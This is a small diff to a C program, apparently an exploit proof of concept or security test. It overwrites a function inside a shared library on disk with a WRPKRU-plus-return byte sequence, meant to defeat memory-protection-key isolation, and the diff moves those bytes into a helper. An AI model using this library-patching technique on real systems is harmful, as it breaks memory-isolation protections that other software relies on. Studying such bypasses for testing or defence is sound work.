@@ -68,7 +68,8 @@ static void after(const char *how, long r) {
   printf("%s: %ld (%s)\n", how, r, r < 0 ? strerror(errno) : "-");
   fflush(stdout);
   int w = open(lib_path, O_WRONLY);
-  const unsigned char code[4] = {0x0f, 0x01, (unsigned char)(0xff ^ flip), 0xc3};
+  unsigned char code[4];
+  wrpkru_ret(code);
   static unsigned char evil[1 << 20];
   memcpy(evil, file, (size_t)file_size);
   memcpy(evil + fn_off, code, 4);
